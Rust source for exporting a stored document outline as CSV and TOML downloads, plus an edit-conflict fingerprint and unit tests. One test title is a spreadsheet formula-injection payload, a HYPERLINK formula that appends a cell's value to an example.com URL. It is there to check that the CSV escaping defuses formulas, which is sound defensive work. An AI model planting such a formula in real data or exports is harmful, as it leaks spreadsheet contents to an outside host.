//! Writing a stored outline back out: as [`OutlineEntry`] rows (so a web
//! edit goes through the same checks as a file), as CSV and TOML files an
//! admin can download, edit and upload again, and as a fingerprint that
//! tells whether the outline changed since a form was opened.

use serde::Serialize;
use sha2::{Digest, Sha256};

use super::OutlineEntry;
use crate::db::sections::Section;
use crate::export::cells;

/// The stored nodes as file rows, in document order. A parent is written
/// out only where the numbering would not imply it (tables, figures, and
/// nodes given an explicit parent), so the rows read like a hand-written file.
/// Each row's origin is `stored node`: a web edit's messages then name the
/// node (`stored node (5.1): …`), not a row of a file nobody uploaded.
pub fn entries_of(sections: &[Section]) -> Vec<OutlineEntry> {
    sections
        .iter()
        .map(|s| {
            let parent = s
                .parent_id
                .and_then(|id| sections.iter().find(|p| p.id == id))
                .filter(|p| !p.number.is_empty())
                .filter(|p| {
                    s.kind.is_float()
                        || s.number.rsplit_once('.').map(|(up, _)| up) != Some(p.number.as_str())
                })
                .map(|p| p.number.clone());
            OutlineEntry {
                origin: "stored node".to_owned(),
                number: s.number.clone(),
                title: s.title.clone(),
                kind: Some(<&str>::from(s.kind).to_owned()),
                volume: s.volume.clone(),
                page_start: s.page_start.clone(),
                page_end: s.page_end.clone(),
                line_start: s.line_start.map(|n| n.to_string()),
                line_end: s.line_end.map(|n| n.to_string()),
                parent,
            }
        })
        .collect()
}

/// The outline as CSV with every column `outline import` reads. Titles are
/// an admin's text, perhaps pasted from the document: every field is
/// quoted and goes through the CSV rule ([`cells::to_csv_cell`]), so a
/// spreadsheet runs none as a formula however it splits the file; reading
/// the file back undoes it.
pub fn to_csv(entries: &[OutlineEntry]) -> Result<String, csv::Error> {
    fn opt(v: &Option<String>) -> &str {
        v.as_deref().unwrap_or_default()
    }
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    writer.write_record(super::file::CSV_COLUMNS)?;
    for e in entries {
        let row = [
            e.number.as_str(),
            e.title.as_str(),
            opt(&e.kind),
            e.volume.as_str(),
            opt(&e.page_start),
            opt(&e.page_end),
            opt(&e.line_start),
            opt(&e.line_end),
            opt(&e.parent),
        ];
        // Opened in a spreadsheet, `=…` in a title must stay text.
        writer.write_record(row.map(cells::to_csv_cell).iter().map(|c| c.as_bytes()))?;
    }
    let bytes = writer.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

#[derive(Serialize)]
struct TomlFile<'a> {
    section: Vec<TomlSection<'a>>,
}

#[derive(Serialize)]
struct TomlSection<'a> {
    #[serde(skip_serializing_if = "str::is_empty")]
    number: &'a str,
    title: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    kind: Option<&'a str>,
    #[serde(skip_serializing_if = "str::is_empty")]
    volume: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    page_start: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    page_end: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    line_start: Option<i64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    line_end: Option<i64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    parent: Option<&'a str>,
}

/// The outline as TOML `[[section]]` tables; numbers are quoted strings,
/// since TOML would read `5.10` as the decimal 5.1.
pub fn to_toml(entries: &[OutlineEntry]) -> Result<String, toml::ser::Error> {
    let line = |v: &Option<String>| v.as_deref().and_then(|n| n.parse::<i64>().ok());
    let file = TomlFile {
        section: entries
            .iter()
            .map(|e| TomlSection {
                number: &e.number,
                title: &e.title,
                kind: e.kind.as_deref(),
                volume: &e.volume,
                page_start: e.page_start.as_deref(),
                page_end: e.page_end.as_deref(),
                line_start: line(&e.line_start),
                line_end: line(&e.line_end),
                parent: e.parent.as_deref(),
            })
            .collect(),
    };
    toml::to_string(&file)
}

/// A short digest of everything an admin can change in the outline. Forms
/// carry it; a save whose digest is no longer current was made against an
/// outline someone else has changed since, and is refused.
pub fn fingerprint(sections: &[Section]) -> String {
    let mut hash = Sha256::new();
    for s in sections {
        let kind: &str = s.kind.into();
        let fields = [
            s.id.to_string(),
            s.parent_id.map(|p| p.to_string()).unwrap_or_default(),
            s.volume.clone(),
            kind.to_owned(),
            s.number.clone(),
            s.title.clone(),
            s.page_start.clone().unwrap_or_default(),
            s.page_end.clone().unwrap_or_default(),
            s.line_start.map(|n| n.to_string()).unwrap_or_default(),
            s.line_end.map(|n| n.to_string()).unwrap_or_default(),
        ];
        for field in fields {
            hash.update(field.as_bytes());
            hash.update([0x1f]);
        }
        hash.update([0x1e]);
    }
    hex::encode(&hash.finalize()[..8])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::outline::{OutlineFormat, parse, stored_for_tests as stored};

    const MIXED: &str = r#"
[[section]]
title = "Executive Summary"
kind = "front"
page_start = "v"
page_end = "vi"
[[section]]
number = "1"
title = "Scope, \"quoted\", with commas"
line_start = 1
line_end = 100
[[section]]
number = "1.1"
title = "Sub"
line_start = 10
line_end = 20
[[section]]
number = "3"
kind = "table"
title = "A table"
line_start = 12
line_end = 14
[[section]]
number = "A"
title = "Annex"
volume = "63B"
[[section]]
number = "A.10"
title = "Ten, not one"
volume = "63B"
[[section]]
number = "A.11"
title = "=HYPERLINK(\"http://example.com/?\"&A1, \"click\")"
volume = "63B"
"#;

    #[test]
    fn csv_and_toml_downloads_read_back_as_the_same_outline() {
        for source in [MIXED, include_str!("../demo/nistir_8200_outline.toml")] {
            let outline = parse(source, OutlineFormat::Toml).unwrap();
            let entries = entries_of(&stored(&outline));
            let csv = to_csv(&entries).unwrap();
            assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), outline, "{csv}");
            assert!(
                !csv.contains(",=") && !csv.contains("\"="),
                "no cell starts a formula: {csv}"
            );
            let toml = to_toml(&entries).unwrap();
            assert_eq!(
                parse(&toml, OutlineFormat::Toml).unwrap(),
                outline,
                "{toml}"
            );
        }
    }

    #[test]
    fn only_parents_the_numbering_does_not_imply_are_written() {
        let outline = parse(MIXED, OutlineFormat::Toml).unwrap();
        let entries = entries_of(&stored(&outline));
        let parent = |number: &str| {
            entries
                .iter()
                .find(|e| e.number == number)
                .unwrap()
                .parent
                .clone()
        };
        assert_eq!(parent("1.1"), None);
        assert_eq!(parent("3"), Some("1.1".to_owned()));
        assert_eq!(parent("A.10"), None);
    }

    #[test]
    fn the_fingerprint_changes_with_any_editable_field() {
        let outline = parse(MIXED, OutlineFormat::Toml).unwrap();
        let sections = stored(&outline);
        let base = fingerprint(&sections);
        assert_eq!(base, fingerprint(&stored(&outline)));
        let mut changed = sections.clone();
        changed[1].title.push('!');
        assert_ne!(fingerprint(&changed), base);
        let mut changed = sections.clone();
        changed[2].line_end = Some(21);
        assert_ne!(fingerprint(&changed), base);
        assert_ne!(fingerprint(&sections[..5]), base);
    }
}
